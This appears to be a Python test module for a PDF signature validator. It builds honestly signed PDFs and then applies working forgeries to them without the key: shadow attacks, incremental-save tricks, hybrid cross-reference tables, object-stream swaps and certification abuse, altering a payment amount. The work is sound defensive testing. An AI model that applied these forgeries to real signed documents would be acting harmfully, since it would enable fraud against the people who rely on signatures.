"""Attacks on signed PDF files: each makes an honestly signed file, and what an attacker makes of it without the key.

The families are those of the published work: shadow attacks (hide, replace, hide-and-replace), incremental saving,
signature wrapping, universal forgery, and attacks on certifications; and some that need a document prepared so that
what is signed points outside what is signed.
"""

from __future__ import annotations

import io
import re
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.sign import signers
from pyhanko.sign.fields import SigSeedSubFilter

from tests.attacks import pdf_raw as raw
from tests.signing import made

Keys = Any
"""The test authority (tests/pki.py)."""


@dataclass(frozen=True)
class Case:
    """What was signed, and what became of it."""

    control: bytes
    attack: bytes


Attack = Callable[[Keys], Case]
SHADOW: dict[str, Attack] = {}
PREPARED: dict[str, Attack] = {}
SUSPECT: dict[str, Attack] = {}
"""Prepared so that already the signed file is in doubt."""


def into(family: dict[str, Attack]) -> Callable[[Attack], Attack]:
    """Add an attack to a family."""

    def add(attack: Attack) -> Attack:
        family[attack.__name__] = attack
        return attack

    return add


def signed(keys: Keys, data: bytes, **named: Any) -> bytes:
    """Sign as the victim does."""
    return made.signed(data, keys.key("anh_duong_ec"), **named)


def countersigned(keys: Keys, data: bytes) -> bytes:
    """Sign as somebody else whom everybody trusts, too: the attacker."""
    return made.signed(data, keys.key("sao_mai"), field="Other")


# shadow attacks: the signed file holds two documents


COVER = b"1 g 0 0 595 842 re f 0 g BT /F1 12 Tf 72 700 Td (Pay 1 000 000) Tj ET"


@into(SHADOW)
def hide_a_cover(keys: Keys) -> Case:
    """A picture hides the evil text while it is signed; its object becomes nothing later."""
    drawn = raw.objects(contents=b"[4 0 R 10 0 R]", resources=b"/XObject << /X 11 0 R >>")
    drawn |= {4: raw.stream(raw.EVIL), 10: raw.stream(b"/X Do"), 11: raw.form(COVER)}
    control = signed(keys, raw.file(drawn))
    return Case(control, raw.append(control, {11: b"<< /Type /XObject /Subtype /Nothing >>"}))


@into(SHADOW)
def hide_a_cover_by_its_type(keys: Keys) -> Case:
    """As above, the stream stays and is no picture any more; and a store comes along."""
    drawn = raw.objects(contents=b"[4 0 R 10 0 R]", resources=b"/XObject << /X 11 0 R >>")
    drawn |= {4: raw.stream(raw.EVIL), 10: raw.stream(b"/X Do"), 11: raw.form(COVER)}
    control = signed(keys, raw.file(drawn))
    changed = raw.stream(COVER, b"/Type /XObj /Subtype /Form /BBox [0 0 0 0]")
    return Case(control, raw.with_store(control, {11: changed}))


@into(SHADOW)
def hide_an_annotation(keys: Keys) -> Case:
    """A white square over the evil text loses its appearance."""
    drawn = raw.objects(page=b"")
    drawn[3] = drawn[3].replace(b"/Annots [7 0 R]", b"/Annots [7 0 R 10 0 R]")
    drawn[10] = b"<< /Type /Annot /Subtype /Square /Rect [50 650 400 750] /F 4 /AP << /N 11 0 R >> >>"
    drawn[11] = raw.form(COVER)
    control = signed(keys, raw.file(drawn))
    return Case(control, raw.with_store(control, {10: drawn[10].replace(b"/F 4", b"/F 2")}))


@into(SHADOW)
def hide_by_layers(keys: Keys) -> Case:
    """The layer that is shown changes."""
    shown = b"/OCProperties << /OCGs [10 0 R 11 0 R] /D << /ON [10 0 R] /OFF [11 0 R] >> >>"
    drawn = raw.objects(catalogue=shown, resources=b"/Properties << /A 10 0 R /B 11 0 R >>")
    drawn[4] = raw.stream(b"/OC /A BDC " + raw.HONEST + b" EMC /OC /B BDC " + raw.EVIL + b" EMC")
    drawn |= {10: b"<< /Type /OCG /Name (a) >>", 11: b"<< /Type /OCG /Name (b) >>"}
    control = signed(keys, raw.file(drawn))
    root = raw.body_of(control, 1)
    changed = root.replace(b"/ON", b"/XX").replace(b"/OFF", b"/ON").replace(b"/XX", b"/OFF")
    assert changed != root
    return Case(control, raw.with_store(control, {1: changed}))


@into(SHADOW)
def replace_a_font(keys: Keys) -> Case:
    """The digits of the font are exchanged."""
    control = signed(keys, raw.file(raw.objects()))
    font = raw.FONT.replace(b">>", b"/Encoding << /Type /Encoding /Differences [49 /nine] >> >>")
    return Case(control, raw.append(control, {5: font}))


@into(SHADOW)
def replace_a_font_along_with_a_store(keys: Keys) -> Case:
    """As above, and the revision looks like an honest one."""
    control = signed(keys, raw.file(raw.objects()))
    font = raw.FONT.replace(b">>", b"/Encoding << /Type /Encoding /Differences [49 /nine] >> >>")
    return Case(control, raw.with_store(control, {5: font}))


@into(SHADOW)
def replace_a_value(keys: Keys) -> Case:
    """A form's value is overwritten after an approval, the look stays."""
    control = signed(keys, raw.file(raw.objects()))
    field = raw.body_of(control, 7).replace(b"1000000", b"9000000")
    return Case(control, raw.append(control, {7: field}))


@into(SHADOW)
def replace_a_look(keys: Keys) -> Case:
    """A form's look is overwritten in place, the value stays; a store comes along."""
    control = signed(keys, raw.file(raw.objects()))
    look = raw.form(b"/Tx BMC BT /F1 12 Tf 2 4 Td (9000000) Tj ET EMC", 200, 20)
    return Case(control, raw.with_store(control, {8: look}))


@into(SHADOW)
def replace_a_value_below_a_signature(keys: Keys) -> Case:
    """The overwritten value is countersigned by somebody trusted."""
    control = signed(keys, raw.file(raw.objects()))
    look = raw.form(b"/Tx BMC BT /F1 12 Tf 2 4 Td (9000000) Tj ET EMC", 200, 20)
    changed = raw.append(control, {7: raw.body_of(control, 7).replace(b"1000000", b"9000000"), 8: look})
    return Case(control, countersigned(keys, changed))


@into(SHADOW)
def exchange_the_pages(keys: Keys) -> Case:
    """Hide and replace: the signed bytes hold a second tree of pages, the catalogue now names it."""
    control = signed(keys, raw.file(raw.objects() | _hidden_pages()))
    return Case(control, raw.append(control, {1: raw.body_of(control, 1).replace(b"/Pages 2 0 R", b"/Pages 12 0 R")}))


@into(SHADOW)
def exchange_the_catalogue(keys: Keys) -> Case:
    """The new trailer names a second catalogue in the signed bytes; no object changes."""
    hidden = {14: b"<< /Type /Catalog /Pages 12 0 R /AcroForm 6 0 R >>"}
    control = signed(keys, raw.file(raw.objects() | _hidden_pages() | hidden))
    return Case(control, raw.append(control, {}, root=14))


@into(SHADOW)
def exchange_by_the_table(keys: Keys) -> Case:
    """Hide and replace: the signed bytes hold object 4 twice; the new table names the other place."""
    drawn = raw.objects()
    first = raw.file(drawn)
    place = len(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    hidden = b"4 0 obj\n" + raw.stream(raw.EVIL) + b"\nendobj\n"
    whole = raw.file(drawn, places=None)
    body = whole[place : whole.rindex(b"xref\n0 1")]
    data = first[:place] + hidden + body
    table = {number: data.index(b"%d 0 obj" % number, place + len(hidden)) for number in drawn}
    start = len(data)
    data += b"xref\n0 1\n0000000000 65535 f \n"
    data += b"".join(b"%d 1\n%010d 00000 n \n" % (number, table[number]) for number in sorted(table))
    data += b"trailer\n<< /Size 9 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % start
    control = signed(keys, data)
    return Case(control, raw.with_store(control, {}, places={4: place}))


@into(SHADOW)
def close_the_catalogue_by_half(keys: Keys) -> Case:
    """Append a store and a catalogue in which one reader takes a lone bracket for an end that others read past."""
    control = signed(keys, raw.file(raw.objects()))
    catalogue = raw.body_of(control, 1)
    spoilt = catalogue[: catalogue.rindex(b">>")] + b"/Extensions << /X 1 > >>"
    return Case(control, raw.with_store(control, {1: spoilt}))


def _hidden_pages() -> dict[int, bytes]:
    return {
        11: raw.stream(raw.EVIL),
        12: b"<< /Type /Pages /Kids [13 0 R] /Count 1 >>",
        13: b"<< /Type /Page /Parent 12 0 R /MediaBox [0 0 595 842] /Contents 11 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> /Annots [7 0 R] >>",
    }


# documents prepared so that what is signed points outside what is signed


def _loose_contents(keys: Keys) -> tuple[bytes, int]:
    drawn = raw.objects(contents=b"[4 0 R 60 0 R]")
    return signed(keys, raw.file(drawn)), 60


@into(PREPARED)
def fill_a_loose_end(keys: Keys) -> Case:
    """The page names contents that do not exist until a later revision brings them."""
    control, loose = _loose_contents(keys)
    return Case(control, raw.append(control, {loose: raw.stream(raw.EVIL)}))


@into(PREPARED)
def fill_a_loose_end_along_with_a_store(keys: Keys) -> Case:
    """As above, with validation data."""
    control, loose = _loose_contents(keys)
    return Case(control, raw.with_store(control, {loose: raw.stream(raw.EVIL)}))


@into(PREPARED)
def fill_a_loose_end_below_a_signature(keys: Keys) -> Case:
    """As above, countersigned."""
    control, loose = _loose_contents(keys)
    return Case(control, countersigned(keys, raw.append(control, {loose: raw.stream(raw.EVIL)})))


@into(PREPARED)
def fill_a_loose_parent(keys: Keys) -> Case:
    """The page's parent, from which readers inherit fonts, does not exist until later."""
    drawn = raw.objects()
    drawn[3] = drawn[3].replace(b"/Parent 2 0 R", b"/Parent 60 0 R").replace(b"/Resources", b"/Unused")
    control = signed(keys, raw.file(drawn))
    font = raw.FONT.replace(b">>", b"/Encoding << /Type /Encoding /Differences [49 /nine] >> >>")
    parent = b"<< /Type /Pages /Kids [3 0 R] /Count 1 /Resources << /Font << /F1 61 0 R >> >> >>"
    return Case(control, raw.with_store(control, {60: parent, 61: font}))


@into(PREPARED)
def reach_behind_the_signature(keys: Keys) -> Case:
    """The signed table names a place behind the signed bytes, where the contents are put later."""
    drawn = raw.objects(contents=b"[4 0 R 30 0 R]") | {31: b"null"}
    behind = 60_000
    control = signed(keys, raw.file(drawn, places={30: behind}))
    fill = b"%" + b" " * (behind - len(control) - 2) + b"\n"
    evil = b"30 0 obj\n" + raw.stream(raw.EVIL) + b"\nendobj\n"
    attack = raw.with_store(control, {}, before=fill + evil)
    assert attack.index(b"30 0 obj") == behind
    return Case(control, attack)


@into(SUSPECT)
def reach_over_the_end(keys: Keys) -> Case:
    """A signed stream is longer than the signed bytes; its rest is appended."""
    long = 50_000
    drawn = raw.objects(contents=b"[4 0 R 30 0 R]") | {31: b"null"}
    data = raw.file(drawn)
    data = data[: data.rindex(b"startxref")]  # its last object runs on
    head = raw.file(drawn, places={30: 0})
    place = len(head) - len(head[head.rindex(b"xref\n0 1") :])
    opened = b"30 0 obj\n<< /Length %d >>\nstream\n" % long
    body = head[:place] + opened
    start = len(body)
    table = re.sub(rb"30 1\n\d{10}", b"30 1\n%010d" % place, head[place:])
    table = re.sub(rb"startxref\n\d+", b"startxref\n%d" % start, table)
    control = signed(keys, body + table)
    rest = b"\n" + raw.EVIL + b"\n%"
    rest += b" " * (long - (len(control) - start) - len(rest)) + b"\nendstream\nendobj\n"
    return Case(control, raw.with_store(control, {}, before=rest))


@into(PREPARED)
def hook_up_a_hidden_field(keys: Keys) -> Case:
    """A signature field with a picture lay unused in the signed bytes; it is put on the page, with a store."""
    control = signed(keys, raw.file(raw.objects() | hidden_field()))
    return Case(control, hooked(control))


@into(PREPARED)
def hook_up_a_hidden_field_below_a_signature(keys: Keys) -> Case:
    """As above, countersigned."""
    control = signed(keys, raw.file(raw.objects() | hidden_field()))
    return Case(control, countersigned(keys, hooked(control, store=False)))


@into(PREPARED)
def claim_a_certification(keys: Keys) -> Case:
    """The catalogue named the approval to come as a certification, and its field lets forms be filled."""
    lock = b"<< /Type /SigFieldLock /Action /Include /Fields [(khac)] /P 2 >>"
    field = (
        b"<< /FT /Sig /T (Signature1) /Type /Annot /Subtype /Widget /Rect [0 0 0 0] /P 3 0 R /F 132 /Lock %s >>" % lock
    )
    drawn = raw.objects(catalogue=b"/Perms << /DocMDP 10 0 R >>", fields=b"9 0 R") | {9: field}
    drawn[3] = drawn[3].replace(b"/Annots [7 0 R]", b"/Annots [7 0 R 9 0 R]")
    value = re.search(rb"/V (\d+ 0 R)", raw.body_of(_signed_leniently(keys, raw.file(drawn)), 9))
    assert value is not None
    drawn[1] = drawn[1].replace(b"/DocMDP 10 0 R", b"/DocMDP " + value[1])
    control = _signed_leniently(keys, raw.file(drawn))
    assert b"/V " + value[1] in raw.body_of(control, 9)
    return Case(control, _filled(control))


@into(PREPARED)
def use_the_place_of_the_signature(keys: Keys) -> Case:
    """A stream of hexadecimal digits whose bytes are the signature's own, which anybody may lengthen."""
    drawn = raw.objects(contents=b"[4 0 R 30 0 R]") | {31: b"null"}
    control = signed(keys, raw.file(drawn | {30: raw.stream(b"")}))
    base = raw.file(drawn, places={30: 0})
    place = base.rindex(b"xref\n0 1")
    opened = b"30 0 obj\n<< /Filter /ASCIIHexDecode /Length %010d >>\nstream\n"
    head = base[:place] + opened % 0
    start = len(head)
    table = re.sub(rb"30 1\n\d{10}", b"30 1\n%010d" % place, base[place:])
    table = re.sub(rb"startxref\n\d+", b"startxref\n%d" % start, table)
    first = signed(keys, head + table)
    gap = made.Layout.of(first)
    opened_now = head.replace(b"/Length 0000000000", b"/Length %010d" % (gap.second - start))
    return Case(control, signed(keys, opened_now + table))


def _signed_leniently(keys: Keys, data: bytes) -> bytes:
    """Sign with a program that does not mind a reference to nothing."""
    signer = signers.SimpleSigner.load_pkcs12_data(keys.key("anh_duong_ec").p12("x"), other_certs=[], passphrase=b"x")
    meta = signers.PdfSignatureMetadata(
        field_name="Signature1", subfilter=SigSeedSubFilter.PADES, md_algorithm="sha256"
    )
    out = io.BytesIO()
    signers.PdfSigner(meta, signer).sign_pdf(IncrementalPdfFileWriter(io.BytesIO(data), strict=False), output=out)
    return out.getvalue()


def hidden_field() -> dict[int, bytes]:
    """Return a signature field with a picture that nothing uses."""
    return {
        20: b"<< /FT /Sig /T (An) /Type /Annot /Subtype /Widget /Rect [0 0 595 842] /P 3 0 R /F 4 "
        b"/AP << /N 21 0 R >> >>",
        21: raw.form(COVER.replace(b"1 000 000", b"9 000 000")),
    }


def hooked(control: bytes, *, store: bool = True) -> bytes:
    """Put that field on the page."""
    page = raw.body_of(control, 3)
    fields = raw.body_of(control, 6)
    new = {
        3: re.sub(rb"/Annots \[", b"/Annots [ 20 0 R ", page),
        6: re.sub(rb"/Fields \[", b"/Fields [ 20 0 R ", fields),
    }
    assert new[3] != page
    assert new[6] != fields
    return raw.with_store(control, new) if store else raw.append(control, new)


# objects that no table names, tables that say two things


@into(SHADOW)
def append_what_no_table_names(keys: Keys) -> Case:
    """Another content of object 4 stands between the revisions: readers that mend a file find it."""
    control = signed(keys, raw.file(raw.objects()))
    return Case(control, raw.with_store(control, {4: raw.stream(raw.EVIL)}, unlisted=(4,)))


@into(SHADOW)
def append_without_a_table(keys: Keys) -> Case:
    """Incremental saving: an object and no table at all."""
    control = signed(keys, raw.file(raw.objects()))
    return Case(control, control + b"4 0 obj\n" + raw.stream(raw.EVIL) + b"\nendobj\n")


@into(SHADOW)
def append_with_a_trailer_alone(keys: Keys) -> Case:
    """Incremental saving: an object and a trailer, the old table's place."""
    control = signed(keys, raw.file(raw.objects()))
    start = re.findall(rb"startxref\n(\d+)", control)[-1]
    tail = b"trailer\n<< /Size 50 /Root 1 0 R >>\nstartxref\n%s\n%%%%EOF\n" % start
    return Case(control, control + b"4 0 obj\n" + raw.stream(raw.EVIL) + b"\nendobj\n" + tail)


@into(SHADOW)
def append_another_generation(keys: Keys) -> Case:
    """The contents come again as their next generation; careless readers take the newest."""
    control = signed(keys, raw.file(raw.objects()))
    attack = raw.with_store(control, {4: raw.stream(raw.EVIL)})
    at = attack.rindex(b"\n4 1\n")
    return Case(control, attack[:at] + attack[at:].replace(b" 00000 n", b" 00001 n", 1))


@into(SHADOW)
def append_a_table_that_says_two_things(keys: Keys) -> Case:
    """A hybrid revision: a table for some readers, a stream of references for others."""
    control = signed(keys, raw.file(raw.objects()))
    number = raw.next_number(control) + 5
    plain = raw.with_store(control, {})
    cut = plain.rindex(b"xref\n0 1")
    head = plain[:cut] + b"4 0 obj\n" + raw.stream(raw.EVIL) + b"\nendobj\n"
    place = plain[:cut].__len__()
    here = len(head)
    entries = b"\x01" + place.to_bytes(4, "big") + b"\x00" + b"\x01" + here.to_bytes(4, "big") + b"\x00"
    table = b"/Type /XRef /Size %d /W [1 4 1] /Index [4 1 %d 1]" % (number + 1, number)
    head += b"%d 0 obj\n" % number + raw.stream(entries, table) + b"\nendobj\n"
    rest = plain[cut:].replace(b"/Prev", b"/XRefStm %d /Prev" % here)
    rest = re.sub(rb"/Size \d+", b"/Size %d" % (number + 1), rest)
    return Case(control, head + re.sub(rb"startxref\n\d+", b"startxref\n%d" % len(head), rest))


# object streams


def _packed(keys: Keys) -> tuple[bytes, int, int]:
    """Sign a file whose page lies in an object stream; another stream in it holds an evil page that nothing names."""
    drawn = raw.objects()
    inside = {number: drawn[number] for number in (1, 2, 3, 5, 6, 7)}
    evil = {3: drawn[3].replace(b"/Contents 4 0 R", b"/Contents 11 0 R")}
    loose = {4: drawn[4], 8: drawn[8], 11: raw.stream(raw.EVIL)}
    control = signed(keys, raw.packed_file(loose, {20: inside, 21: evil}))
    return control, 20, 21


@into(SHADOW)
def point_into_a_hidden_object_stream(keys: Keys) -> Case:
    """The newest table finds the page in the other object stream of the signed bytes."""
    control, _, hidden = _packed(keys)
    return Case(control, raw.packed_append(control, {}, {}, inside={3: (hidden, 0)}))


@into(SHADOW)
def bring_an_object_stream(keys: Keys) -> Case:
    """A new object stream holds another page."""
    control, _, _ = _packed(keys)
    page = raw.objects()[3].replace(b"/Contents 4 0 R", b"/Contents 11 0 R")
    return Case(control, raw.packed_append(control, {}, {raw.next_number(control): {3: page}}))


@into(SHADOW)
def overwrite_an_object_stream(keys: Keys) -> Case:
    """The object stream itself is overwritten; no table names the page anew."""
    control, held, _ = _packed(keys)
    drawn = raw.objects()
    inside = {number: drawn[number] for number in (1, 2, 3, 5, 6, 7)}
    inside[3] = inside[3].replace(b"/Contents 4 0 R", b"/Contents 11 0 R")
    return Case(control, raw.packed_append(control, {held: raw.object_stream(inside)}, {}))


@into(SHADOW)
def overwrite_an_object_stream_along_with_a_signature(keys: Keys) -> Case:
    """As above, countersigned."""
    case = overwrite_an_object_stream(keys)
    return Case(case.control, countersigned(keys, case.attack))


def _filled(data: bytes) -> bytes:
    """Fill the field as a viewer does."""
    number = raw.next_number(data)
    field = raw.body_of(data, 7).replace(b"1000000", b"9000000").replace(b"8 0 R", b"%d 0 R" % number)
    return raw.append(data, {7: field, number: raw.form(b"/Tx BMC BT /F1 12 Tf 2 4 Td (9000000) Tj ET EMC", 200, 20)})
